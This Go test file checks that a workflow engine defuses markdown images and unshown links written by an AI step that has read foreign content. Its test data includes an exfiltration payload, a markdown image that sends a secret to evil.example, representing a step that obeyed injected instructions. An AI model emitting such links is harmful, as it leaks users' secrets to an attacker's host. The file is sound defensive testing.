package step

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vaultflow/vaultflow/content"
	"github.com/vaultflow/vaultflow/directives"
	"github.com/vaultflow/vaultflow/engine"
	"github.com/vaultflow/vaultflow/workflow"
)

// foreign says that the step was shown a text of a stranger.
func (w *world) foreign(text string) *engine.Foreign {
	w.t.Helper()
	reply, err := content.MarshalBlocks([]content.Block{content.ToolResult{Success: true, Blocks: []content.Block{content.Text{Value: text}}}})
	if err != nil {
		w.t.Fatal(err)
	}
	return &engine.Foreign{Origins: []string{"file Imported/a/index.md"}, Turns: []engine.Turn{{Reply: w.put(string(reply))}}}
}

const obeyed = "Summary: https://shown.example/a\n\n![x](http://evil.example/?q=secret)\n"

func TestStage_defusesWhatAForeignStepWrites(t *testing.T) {
	t.Parallel()
	own := "# Log\n\n![mine](https://mine.example/logo.png)\n"
	for _, tt := range []struct {
		name, mode string
		links      []string
		want       string
		found      []engine.Defused
	}{
		{"append", directives.ModeAppend, nil, own + "\n" + strings.TrimSpace(strings.NewReplacer("![x](http:", "!⟦⟧[x]⟦⟧(http⟦⟧:").Replace(obeyed)) + "\n", []engine.Defused{
			{Name: "Log.md", Line: 7, Reason: "a picture from evil.example", Text: "![x](http://evil.example/?q=secret)"},
			{Name: "Log.md", Line: 7, Reason: "a link to evil.example that the step was not shown", Text: "http://evil.example/?q=secret"},
			{Name: "Log.md", Line: 7, Reason: "an address at evil.example that the step was not shown", Text: "http://evil.example/?q=secret"},
		}},
		{"allowed host", directives.ModeAppend, []string{"*.example"}, own + "\n" + strings.TrimSpace(obeyed) + "\n", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := appending(t, tt.mode)
			d.files["Log.md"].Data = []byte(own)
			d.plan.Meta.Permissions.Links = tt.links
			staged, err := d.steps().Stager.Stage(t.Context(), engine.StageIn{
				StepRef: d.ref(), Answer: d.put(obeyed), Attempt: 1, Foreign: d.foreign("See https://shown.example/a."),
			})
			if err != nil {
				t.Fatal(err)
			}
			if got := d.text(staged.Files[0].New); got != tt.want {
				t.Errorf("the file becomes\n%s\nwant\n%s", got, tt.want)
			}
			if diff := cmp.Diff(tt.found, staged.Defused); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestStage_leavesOwnStepsAlone(t *testing.T) {
	t.Parallel()
	d := appending(t, directives.ModeAppend)
	staged, err := d.steps().Stager.Stage(t.Context(), engine.StageIn{StepRef: d.ref(), Answer: d.put(obeyed), Attempt: 1})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.text(staged.Files[0].New); !strings.Contains(got, strings.TrimSpace(obeyed)) || len(staged.Defused) > 0 {
		t.Errorf("the file becomes %q, %v", got, staged.Defused)
	}
}

func TestStage_defusesPropertiesAndHeaders(t *testing.T) {
	t.Parallel()
	d := appending(t, directives.ModeFrontmatter)
	staged, err := d.steps().Stager.Stage(t.Context(), engine.StageIn{
		StepRef: d.ref(), Answer: d.put(`{"banner": "https://shown.example/a"}`), Attempt: 1, Foreign: d.foreign("https://shown.example/a"),
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.text(staged.Files[0].New); !strings.Contains(got, "https⟦⟧://shown.example/a") || len(staged.Defused) != 1 {
		t.Errorf("the properties become %q, %v", got, staged.Defused)
	}
	d = appending(t, directives.ModeAppend)
	d.plan.Steps[0].Header = "{item}"
	ref := d.ref()
	ref.Items = []engine.Item{{Name: "![x](http://evil.example/a)", SHA256: d.put("![x](http://evil.example/a)"), Value: true}}
	staged, err = d.steps().Stager.Stage(t.Context(), engine.StageIn{StepRef: ref, Answer: d.put("text"), Attempt: 1, Foreign: d.foreign("")})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.text(staged.Files[0].New); strings.Contains(got, "![x]") || len(staged.Defused) == 0 {
		t.Errorf("with a header the file becomes %q, %v", got, staged.Defused)
	}
}

// What a routed input holds is written without its pictures; its plain links stay, because nobody made them up.
func TestStage_defusesRoutedInputs(t *testing.T) {
	t.Parallel()
	d := newDesk(t, map[string]string{"Imported/a.md": "[kept](https://elsewhere.example/a) ![x](https://elsewhere.example/p.png)"}, "read_file")
	out := directives.Target{Scheme: directives.SchemeFile, Path: "Copy.md"}
	d.plan.Steps[0] = workflow.Step{Name: "Step 1", Prompt: "work", Set: directives.Set{Inputs: []directives.Input{{
		Target: fileTarget("Imported/a"), Route: &directives.Route{To: directives.RouteFile, Target: &out},
	}}}}
	staged, err := d.steps().Stager.Stage(t.Context(), engine.StageIn{
		StepRef: d.ref(), Attempt: 1, Foreign: d.foreign(""), Inputs: []engine.ResolvedInput{{Files: []engine.ResolvedFile{{Name: "Imported/a.md"}}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := "[kept](https://elsewhere.example/a) !⟦⟧[x](https://elsewhere.example/p.png)\n"
	if got := d.text(staged.Files[0].New); got != want {
		t.Errorf("the copy is %q, want %q", got, want)
	}
}
